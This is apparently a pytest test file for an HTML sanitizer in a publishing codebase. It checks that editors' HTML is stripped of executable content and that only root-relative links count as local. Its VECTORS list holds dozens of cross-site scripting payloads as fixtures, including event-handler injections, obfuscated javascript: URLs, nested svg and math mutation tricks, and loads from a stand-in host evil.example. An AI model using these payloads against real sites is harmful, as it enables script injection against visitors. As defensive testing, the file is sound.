"""What editors' HTML may hold: all that is not named is dropped."""

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from rolepress.content.html_tree import parse_html, serialize
from rolepress.content.links import read_links
from rolepress.content.markdown import Dialect, UnreadableTextError, to_html
from rolepress.content.sanitize import clean, sanitize
from rolepress.core.urls import is_local
from tests.sites.pages import PARSERS, active_parts

VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img src='/\t/evil.example/x.png'>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a onclick=alert(1) href=/>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/'</style>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example/><button formaction=javascript:x>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


@pytest.mark.parametrize("parser", PARSERS)
@pytest.mark.parametrize("html", VECTORS)
def test_nothing_that_could_run_is_left(html: str, parser: str) -> None:
    page = BeautifulSoup(sanitize(html), parser)
    assert not active_parts(page)
    assert not page.find(["script", "svg", "math", "style", "link", "meta", "form", "video"])
    assert not [tag for tag in page.find_all("img") if not is_local(str(tag.get("src", "/")))]


@pytest.mark.parametrize("html", VECTORS)
def test_what_is_clean_stays_as_it_is(html: str) -> None:
    assert sanitize(sanitize(html)) == sanitize(html)


@pytest.mark.parametrize(
    "html",
    [
        "plain words",
        "<p>a <strong>b</strong> <em>c</em></p>",
        '<a href="https://example.com/?a=b&amp;c=d" title="x">y</a>',
        '<img src="/x.png" alt="x" width="1" height="2">',
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody></tbody></table>',
        "<details><summary>a</summary>b</details>",
        '<time datetime="2026-11-02">today</time>',
    ],
)
def test_what_a_text_needs_is_kept(html: str) -> None:
    assert sanitize(html) == html


@pytest.mark.parametrize("html", ["a\x07b", "<b>a&#7;b</b>", "&#0;a", "a\ufffeb", "a&#xFFFF;"])
def test_characters_that_no_feed_can_carry_are_dropped(html: str) -> None:
    assert not set(sanitize(html)) & {"\x00", "\x07", "\ufffe", "\uffff"}


@pytest.mark.parametrize("address", ["/x.png", "/a/b", "/"])
def test_a_path_from_the_root_is_local(address: str) -> None:
    assert is_local(address)


@pytest.mark.parametrize(
    "address", ["", "x.png", "//evil.example", "/\\evil.example", "/\n/evil", "https://a"]
)
def test_nothing_else_is_local(address: str) -> None:
    assert not is_local(address)


PARTS = (
    *("# ", "## ", "- ", "1. ", "    ", "> ", "```", "`", "**", "*", "_", "~~", "\\", "\n", "\n\n"),
    *(
        "[a](/b)",
        "[a](javascript:b)",
        "[a](/b 'c')",
        "![a](/b.png)",
        "[a]: /b\n",
        "[a]",
        "https://a.b",
    ),
    *(
        "| a | b |\n|---|--:|\n| c | d |\n",
        "a\n: b\n",
        "---\n",
        "&amp;",
        "<b>",
        "</p>",
        "<",
        "&#7;",
    ),
    *("a", "ä", "\u00a0", "\u2028", "x:y", '"', "'", "{: .a}", "[^1]"),
)


@given(
    st.lists(st.sampled_from(PARTS) | st.text(st.characters(exclude_categories=["C"]))),
    st.sampled_from(Dialect),
)
def test_what_is_taken_for_clean_is_what_the_sanitizer_would_leave(
    parts: list[str], dialect: Dialect
) -> None:
    text = "".join(parts)
    try:
        written = parse_html(to_html(text, dialect))
        _, bad_links = read_links(written, "pages/x.md")
        expected = serialize(parse_html(sanitize(serialize(written))))
    except UnreadableTextError:
        return
    if not bad_links:  # they are problems, whatever the sanitizer leaves of them
        assert serialize(clean(written, text)) == expected
